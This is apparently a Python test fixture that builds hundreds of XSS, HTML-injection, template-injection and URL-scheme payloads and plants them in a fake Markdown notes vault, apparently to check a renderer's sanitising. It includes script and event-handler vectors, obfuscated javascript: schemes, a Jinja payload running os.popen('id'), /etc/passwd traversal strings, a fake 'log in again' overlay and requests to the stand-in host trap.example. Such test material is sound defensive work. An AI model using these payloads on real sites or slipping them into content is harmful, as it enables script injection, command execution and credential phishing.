"""Several hundred ways to make a page run a script, ask for something, or look like another page.

Each calls ``canary()`` if a script runs, or asks for something at ``trap.example`` if a request
leaves. They are put together from elements, events, addresses and ways to hide them.
"""

from __future__ import annotations

from collections.abc import Iterator

CALL = "canary(1)"
FAR = "http://trap.example/x"

ELEMENTS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt >{CALL}</sCrIpT >",
    f"<script/x>{CALL}</script>",
    f"<script src={FAR}.js></script>",
    f'<script src="data:text/javascript,{CALL}"></script>',
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"</title><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"--><script>{CALL}</script><!--",
    f"]]><script>{CALL}</script>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script xlink:href='data:text/javascript,{CALL}'></script></svg>",
    f"<svg onload={CALL}>",
    f"<svg/onload={CALL}>",
    f"<svg\tonload={CALL}>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={CALL}>",
    f"<svg><a xlink:href='javascript:{CALL}'><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={CALL}>#x'></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{CALL}</script>'></iframe></foreignObject></svg>",
    f"<svg><style>@import '{FAR}.css';</style></svg>",
    f"<math><mi xlink:href='javascript:{CALL}'>x</mi></math>",
    f"<math><annotation-xml encoding=text/html><script>{CALL}</script></annotation-xml></math>",
    f"<img src=x onerror={CALL}>",
    f"<img/src=x/onerror={CALL}>",
    f"<img src=x:x onerror\t=\t{CALL}>",
    f'<img """><script>{CALL}</script>">',
    f"<img src={FAR}.png>",
    f"<img srcset='{FAR}.png 1x, {FAR}2.png 2x'>",
    f"<picture><source srcset={FAR}.png><img></picture>",
    f"<image href={FAR}.png onerror={CALL}>",
    f"<video src=x onerror={CALL}></video>",
    f"<video poster={FAR}.png></video>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src={FAR}.mp3 autoplay onloadstart={CALL}></audio>",
    f"<track src={FAR}.vtt>",
    f"<iframe src='javascript:{CALL}'></iframe>",
    f"<iframe src={FAR}></iframe>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<frameset onload={CALL}><frame src={FAR}></frameset>",
    f"<object data='javascript:{CALL}'></object>",
    f"<object data={FAR}.swf></object>",
    f"<embed src={FAR}.swf>",
    f"<embed src='javascript:{CALL}'>",
    f"<applet code={FAR}></applet>",
    f"<base href={FAR}/>",
    f"<base href='javascript:{CALL}//'>",
    f"<link rel=stylesheet href={FAR}.css>",
    f"<link rel=preload as=image href={FAR}.png>",
    f"<link rel=prefetch href={FAR}>",
    "<link rel=dns-prefetch href=//trap.example>",
    "<link rel=preconnect href=//trap.example>",
    f"<link rel=modulepreload href={FAR}.js>",
    f"<link rel=manifest href={FAR}.json>",
    f"<link rel=icon href={FAR}.ico>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{CALL}</script>'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<meta charset=utf-7>+ADw-script+AD4-canary(1)+ADw-/script+AD4-",
    f"<form action={FAR}><input name=x autofocus><button>x</button></form>",
    f"<form id=x></form><button form=x formaction='javascript:{CALL}'>x</button>",
    f"<input autofocus onfocus={CALL}>",
    f"<input type=image src={FAR}.png onerror={CALL}>",
    f"<isindex type=image src=x onerror={CALL}>",
    f"<select autofocus onfocus={CALL}>",
    f"<textarea autofocus onfocus={CALL}>",
    f"<keygen autofocus onfocus={CALL}>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<dialog open onclose={CALL}>x</dialog>",
    f"<body onload={CALL}>",
    f"<body background={FAR}.png>",
    f"<body onpageshow={CALL} onhashchange={CALL}>",
    f"<html onfocusin={CALL}>",
    f"<table background={FAR}.png><td background={FAR}.png>x</table>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<bgsound src={FAR}.mid>",
    f"<x contenteditable onfocus={CALL} autofocus tabindex=0>x</x>",
    f"<xss style='animation-name:x' onanimationstart={CALL}>x</xss>",
    f"<style>@keyframes x{{}}</style><p style='animation:x 1s' onanimationend={CALL}>x",
    f"<style>@import '{FAR}.css';</style>",
    f"<style>*{{background:url({FAR}.png)}}</style>",
    f"<style>@font-face{{font-family:x;src:url({FAR}.woff)}}*{{font-family:x}}</style>",
    "<style>*{display:none!important}</style>",
    f"<div style='background:url({FAR}.png)'>x</div>",
    f"<div style='width:expression({CALL})'>x</div>",
    f"<div style='-moz-binding:url({FAR}.xml#x)'>x</div>",
    "<div style='position:fixed;inset:0;background:#fff;z-index:9999'>log in again</div>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<template><script>{CALL}</script></template>",
    f"<plaintext><script>{CALL}</script>",
    f"<xmp><script>{CALL}</script></xmp>",
    f"<!--[if gte IE 4]><script>{CALL}</script><![endif]-->",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<!-- x --!><img src=x onerror={CALL}>",
    f"<?xml-stylesheet href='javascript:{CALL}'?>",
    f"<!ENTITY x '{FAR}'>",
    f"<a href='javascript:{CALL}' autofocus onfocus={CALL}>x</a>",
    f"<a href={FAR} ping={FAR}>x</a>",
    f"<area href='javascript:{CALL}' onfocus={CALL}>",
    f"<portal src={FAR}></portal>",
    f"<fencedframe src={FAR}></fencedframe>",
    "<div id=main><div id=typed>x</div></div>",
    "<img name=getElementById><form name=body><input name=cookie>",
    f'" onmouseover={CALL} autofocus onfocus={CALL} x="',
    f"' onmouseover={CALL} autofocus onfocus={CALL} x='",
    f'"><img src=x onerror={CALL}>',
    f"'><img src=x onerror={CALL}>",
    f"`><img src=x onerror={CALL}>",
    f'" style="background:url({FAR}.png)',
    f'x" xlink:href="javascript:{CALL}',
    f"</text></svg><img src=x onerror={CALL}>",
    f"</dd></dl></details></main><script>{CALL}</script><main>",
    f"</code><script>{CALL}</script>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;script&#62;{CALL}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={CALL}&#x3e;",
    f"&amp;lt;img src=x onerror={CALL}&amp;gt;",
    f"\\x3cscript\\x3e{CALL}\\x3c/script\\x3e",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"＜script＞{CALL}＜/script＞",  # fullwidth, which some foldings turn into ASCII
    f"﹤script﹥{CALL}﹤/script﹥",
    f"<\u200bscript>{CALL}</script>",
    f"\u202e>tpircs/<{CALL}>tpircs<\u202c",
    f"<scr\u0000ipt>{CALL}</script>",
    f"<\ufeffscript>{CALL}</script>",
    f"<ſcript>{CALL}</ſcript>",  # a long s, which upper-cases to S
    f"<ımg src=x onerror={CALL}>",  # an i without its dot, likewise
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{{7*7}}",
    "{% for x in (1,) %}49{% endfor %}",
    "{# x #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ config }}{{ self }}{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ words.t.__globals__ }}",
    "{% include 'page.html' %}",
    "{% extends 'frame.html' %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[${7*7}]]",
    "{0.__class__}",
    "{count}{people}{name}",
    "%s %(x)s %n",
)
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "\tjavascript:",
    "java\tscript:",
    "java\nscript:",
    "\x01javascript:",
    "\u00a0javascript:",
    "\u2028javascript:",
    "javascript\t:",
    "javascript&colon;",
    "javascript&#58;",
    "javascript&#x3a;",
    "&#106;avascript:",
    "&#x6A;avascript:",
    "&#0000106avascript:",
    "java&Tab;script:",
    "java&NewLine;script:",
    "%6aavascript:",
    "javascript%3a",
    "\\javascript:",
    "javascript\\:",
    "javascript:%0a",
    "javascript://%0a",
    "javascript:///../",
    "feed:javascript:",
    "jar:javascript:",
    "vbscript:",
    "livescript:",
    "mocha:",
    "data:text/html,<script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=#",
    "data:image/svg+xml,<svg/onload=",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>",
    "blob:http://127.0.0.1/",
    "filesystem:http://127.0.0.1/",
    "view-source:",
    "file:///etc/passwd#",
    "about:blank#",
    "chrome://settings/",
    "ws://trap.example/",
    "ftp://trap.example/",
    "//trap.example/",
    "///trap.example/",
    "\\\\trap.example\\",
    "/\\trap.example/",
    "http:\\\\trap.example\\",
    "/static/../../etc/passwd?",
    "../../../../../../etc/passwd?",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd?",
)
# How Markdown writes a link or an image; {} is the address.
LINKS = (
    "[x]({}canary(1))",
    "[x](<{}canary(1)>)",
    "![x]({}canary(1))",
    "<{}canary(1)>",
    '[x]({}canary(1) "title")',
    "[![x]({}canary(1))]({}canary(1))",
    "[[{}canary(1)]]",
)
TITLES = (
    f"[x](https://example.org '\" onmouseover={CALL} \"')",
    f'[x](https://example.org "</a><script>{CALL}</script>")',
    f'[x](https://example.org/"onmouseover={CALL} )',
    f"[<img src=x onerror={CALL}>](https://example.org)",
    f'!["onerror={CALL} x="](x.png)',
    f"![x]({FAR}.png)",
    f'![x](<{FAR}.png> "t")',
    f"[![x]({FAR}.png)](https://example.org)",
    f"[x]: javascript:{CALL}\n[x]",
    f"[x][y]\n\n[y]: <javascript:{CALL}> 't'",
    f"`<script>{CALL}</script>`",
    f"``` <script>{CALL}</script> ```",
    f"~~<script>{CALL}</script>~~",
    f"**<img src=x onerror={CALL}>**",
    f"[[x|<img src=x onerror={CALL}>]]",
    f"[[<svg onload={CALL}>|x]]",
    f"![[{FAR}.png]]",
    f"$$\\href{{javascript:{CALL}}}{{x}}$$",
    f":::script\n{CALL}\n:::",
    f"x{{onmouseover={CALL}}}",
    f"[x](mailto:a@b.c?body=<script>{CALL}</script>)",
    f'http://trap.example/"onmouseover="{CALL}',
    f"www.trap.example/<script>{CALL}</script>",
)


def vectors() -> Iterator[str]:
    """All of them, in a fixed order."""
    yield from ELEMENTS
    yield from TEMPLATES
    yield from TITLES
    for at, scheme in enumerate(SCHEMES):
        yield LINKS[at % len(LINKS)].replace("{}", scheme)
        yield LINKS[(at + 3) % len(LINKS)].replace("{}", scheme)
    # Hidden by upper case, by Markdown around it, and cut by what a note means.
    for at, element in enumerate(ELEMENTS):
        yield (element.swapcase().replace("CANARY", "canary"), f"*{element}*", f"> {element}")[
            at % 3
        ]


VECTORS = tuple(dict.fromkeys(vectors()))


def quoted(text: str) -> str:
    """As a value of a header in YAML, whatever is in it."""
    return "'" + text.replace("'", "''").replace("\n", " ").replace("\x00", "") + "'"


def file_name(text: str) -> str:
    """As near to the vector as a file's name can be."""
    bare = text.replace("/", "\u2215").replace("\x00", "").replace("\n", " ").strip(". ")
    return bare.encode()[:200].decode(errors="ignore")


def hostile_notes() -> dict[str, str]:
    """A vault of nothing but attacks: path to text, each vector in every place that is shown."""
    notes: dict[str, str] = {}
    for number, vector in enumerate(VECTORS):
        value, line = quoted(vector), vector.replace("\n", " ").replace("\x00", "")
        name = file_name(vector) if number % 2 else f"Person {number} {file_name(vector)[:60]}"
        day = f"2026-05-{number % 28 + 1:02}"
        notes[f"contacts/{name}.md"] = (
            f"---\norg: {value}\nrole: {value}\ncity: {value}\nmet: {value}\nemail: {value}\n"
            f"phone: {value}\nurl: {value}\ntopics: [{value}]\ntags: [{value}]\n"
            f"aliases: [{value}]\nintroduced_by: {value}\n---\n# {line}\n\n{vector}\n\n## Log\n"
            f"- {day} asked email expect:yes — {line}\n- {day} note named:[[{line}]] — {line}\n\n"
            f"- [ ] me: {line}\n- [ ] they: {line} 📅 2026-06-01\n"
        )
        if number % 3 == 0:
            notes[f"conversations/{day} Talk {number}.md"] = (
                f"---\npeople: ['[[{name.replace(chr(39), chr(39) * 2)}]]']\norg: {value}\n"
                f"city: {value}\nnamed: [{value}]\n---\n- [insight] {line} [[Question {number}]]"
                f" +{line}\n- [surprise] {line}\n- [ ] me: {line}\n"
            )
        if number % 9 == 0:
            notes[f"questions/Question {number}.md"] = (
                f"---\nquestion: {value}\noptions: [{value}, b]\n---\n{vector}\n"
            )
            notes[f"organizations/{name}.md"] = f"---\ntarget: true\nindustry: {value}\n---\n"
            notes[f"opportunities/{name}.md"] = f"---\norg: {value}\nsource: {value}\n---\n"
    return notes
